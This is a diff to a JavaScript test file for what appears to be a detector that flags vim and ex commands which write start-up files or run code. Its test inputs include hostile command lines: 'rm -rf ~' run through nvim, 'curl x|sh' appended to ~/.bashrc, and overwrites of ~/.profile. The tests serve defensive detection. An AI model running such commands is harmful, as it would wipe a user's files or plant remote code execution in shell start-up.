@@ -12,7 +12,8 @@ test('each write or code command is the shell line that does the same', () => {
   assert.deepEqual(exEffectLines('w >> /etc/x'), [`tee -a -- '/etc/x'`]);
   assert.deepEqual(exEffectLines('lua os.execute("id")'), [`lua -e 'os.execute("id")'`]);
   assert.deepEqual(exEffectLines('py3file /tmp/x.py'), [`python3 '/tmp/x.py'`]);
-  for (const harmless of ['w', 'wq', 'wall', 'x', '%s/a/b/g', 'set nu', 'w !cat']) assert.deepEqual(exEffectLines(harmless), []);
+  for (const harmless of ['w', 'wq', 'wall', 'x', '%s/a/b/g', 'set nu', 'w !cat'])
+    assert.deepEqual(exEffectLines(harmless), []);
   assert.deepEqual(exWrittenFiles('call writefile(["a|b"], expand("~/.zshrc"), "a")'), [`tee -a -- ~'/.zshrc'`]);
   assert.deepEqual(exSourcedFiles(['vim', '-u', 'NONE', '-S', 's.vim', '-c', 'so x.vim|q'], ['so x.vim|q']), [
     's.vim',
@@ -26,7 +27,7 @@ test('vim and ex run without a terminal write start-up files and run code as the
     "vim -es -c 'w! ~/.bashrc' /tmp/evil",
     "ex -sc 'w! ~/.profile|q' /tmp/evil",
     "vim -es -c 'w >> ~/.bashrc' /tmp/evil",
-    "nvim --headless +'lua os.execute(\"rm -rf ~\")' +q",
+    'nvim --headless +\'lua os.execute("rm -rf ~")\' +q',
     'vim -es -c \'call writefile(["curl x|sh"], expand("~/.bashrc"), "a")\' -c q',
     'vim -S /tmp/evil.vim',
     "vim -es -c 'source /tmp/missing.vim'",
